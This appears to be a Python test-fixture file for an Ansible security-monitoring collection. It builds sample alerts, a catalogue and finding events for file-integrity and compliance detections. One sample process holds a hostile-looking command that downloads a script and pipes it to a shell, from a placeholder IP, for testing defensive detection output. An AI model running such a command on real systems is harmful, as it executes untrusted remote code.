# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A catalogue, hosts and detections to make findings of."""

from __future__ import annotations

import typing as t

from ansible_collections.bulwark.servers.plugins.module_utils import _finding
from ansible_collections.bulwark.servers.plugins.plugin_utils.catalogue import (
    KINDS,
    LIFECYCLES,
    Alert,
    AttackReference,
    Catalogue,
)
from ansible_collections.bulwark.servers.plugins.plugin_utils.ocsf import compliance, events

NOW = 1_780_000_000.5
CRON = AttackReference("TA0003", "Persistence", "T1053.003", "Scheduled Task/Job: Cron")
DESTRUCTION = AttackReference("TA0040", "Impact", "T1485", "Data Destruction")
HOST = events.Device(
    name="web1.example.com",
    ip="192.0.2.7",
    domain="example.com",
    is_virtual=True,
    system="Linux",
    os_name="Debian",
    os_version="13.2",
    kernel="6.18.1",
)


def alert(kind: str = "alert", lifecycle: str = "state", **changes: t.Any) -> Alert:
    fields: dict[str, t.Any] = {
        "id": f"test_{kind}_{lifecycle}",
        "title": "A file was changed",
        "kind": kind,
        "severity": "medium",
        "capability": "file_integrity",
        "platforms": ("linux",),
        "lifecycle": lifecycle,
        "attack": (CRON, DESTRUCTION),
        "description": "What it means.",
        "remediation": "What to do.",
        "references": ("https://example.com/what-to-do",),
    }
    return Alert(**{**fields, **changes})


CATALOGUE = Catalogue(
    {item.id: item for item in (alert(kind, lifecycle) for kind in KINDS for lifecycle in LIFECYCLES)},
    {reference.technique: reference for reference in (CRON, DESTRUCTION)},
)

FILE = {
    "name": "backup",
    "path": "/etc/cron.d/backup",
    "parent_folder": "/etc/cron.d",
    "type_id": 1,
    "type": "Regular File",
    "size": 2**40,
    "owner": {"name": "root", "uid": "0"},
    "modified_time": 1_780_000_000_000,
    "hashes": [{"algorithm_id": 3, "algorithm": "SHA-256", "value": "ab" * 32}],
    "security_descriptor": "u:object_r:system_cron_spool_t:s0",
    "xattributes": {"mode": "0644", "acl": ["user::rw-"]},
}
PROCESS = {
    "name": "sh",
    "pid": 4711,
    "cmd_line": "sh -c 'curl http://192.0.2.9/x | sh'",
    "file": FILE,
    "user": {"name": "www-data", "uid": "33", "groups": [{"name": "www-data", "uid": "33"}]},
    "created_time": 1_780_000_000_000,
    "parent_process": {"pid": 1},
}
EVIDENCES: list[dict[str, t.Any]] = [
    {"file": FILE, "data": {"changed": {"mode": {"before": "0644", "after": "4755"}}}},
    {"process": PROCESS, "actor": {"process": PROCESS}},
    {"user": {"name": "eve"}, "src_endpoint": {"ip": "2001:db8::1", "port": 4444}},
    {"container": {"uid": "a1", "image": {"uid": "sha256:1", "name": "nginx"}}, "data": 1},
    {"job": {"name": "backup", "file": FILE, "cmd_line": "/usr/bin/backup"}},
    {"connection_info": {"direction_id": 1, "protocol_name": "tcp", "protocol_num": 6}},
    {"script": {"type_id": 3, "script_content": {"value": "import os"}}},
    {"reg_key": {"path": "HKLM\\\\Software"}, "reg_value": {"path": "HKLM", "name": "Run", "data": {"x": [1]}}},
    {"url": {"url_string": "http://192.0.2.9/x", "port": 80}},
]


def detection(kind: str = "alert", lifecycle: str = "state", **changes: t.Any) -> dict[str, t.Any]:
    fields: dict[str, t.Any] = {"subject": "/etc/cron.d/backup", "scope": "cron", "evidences": EVIDENCES}
    return _finding.detection(alert=f"test_{kind}_{lifecycle}", **{**fields, **changes})


def finding(
    kind: str = "alert", lifecycle: str = "state", host: events.Device = HOST, now: float = NOW, **changes: t.Any
) -> dict[str, t.Any]:
    return events.finding(detection(kind, lifecycle, **changes), CATALOGUE, host, now)


def compliance_finding(status: t.Mapping[str, t.Any] = compliance.FAIL, **changes: t.Any) -> dict[str, t.Any]:
    """Return the finding of a control of a benchmark."""
    about = events.Compliance(
        standard="CIS Docker Benchmark 1.8.0",
        requirements=("5.10",),
        control="Containers have a network namespace of their own",
        status=status,
        detail="3 of 50 containers use the network of the host.",
        counts={"level": 1, "examined": 50, "count": 3},
    )
    return events.finding(detection("recommendation", **changes), CATALOGUE, HOST, NOW, about)
